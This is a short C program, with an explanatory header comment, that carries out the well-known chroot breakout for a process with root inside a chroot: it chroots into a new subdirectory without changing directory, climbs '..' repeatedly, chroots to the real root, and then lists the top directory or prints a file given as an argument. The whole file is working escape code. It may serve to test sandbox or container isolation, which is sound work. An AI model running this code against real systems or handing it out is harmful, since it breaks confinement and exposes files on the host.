/*
 * The classic way out of a chroot, for a process that is root in it.
 *
 * The kernel stops ".." at the process's root directory and nowhere else. So this moves the root
 * below the working directory (a chroot into a new directory, without a chdir), and then climbs:
 * the old root is no longer the stop, and the next one is the real root. After pivot_root(2) the
 * same climb ends at the container's own root, since nothing lies above it.
 *
 * Prints the names it finds at the top, one a line; or, with a path as its argument, the content
 * of that file, looked up from there.
 */
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

enum { HIGHER_THAN_ANY_TREE = 64 };

static void climb(void)
{
	int here = open(".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (here < 0 || (mkdir("/trapdoor", 0700) < 0 && access("/trapdoor", F_OK) < 0) ||
		chroot("/trapdoor") < 0 || fchdir(here) < 0) {
		perror("chroot-escape");
		exit(1);
	}
	for (int i = 0; i < HIGHER_THAN_ANY_TREE; i++)
		if (chdir("..") < 0)
			exit(1);
	if (chroot(".") < 0)
		exit(1);
}

static int print_names(void)
{
	DIR *top = opendir("/");
	if (!top)
		return 1;
	for (const struct dirent *entry; (entry = readdir(top));)
		puts(entry->d_name);
	return closedir(top) < 0;
}

static int print_file(const char *path)
{
	FILE *file = fopen(path, "re");
	char line[4096];
	if (!file) {
		perror(path);
		return 1;
	}
	while (fgets(line, sizeof(line), file))
		fputs(line, stdout);
	return fclose(file) != 0;
}

int main(int argc, char **argv)
{
	climb();
	return argc > 1 ? print_file(argv[1]) : print_names();
}
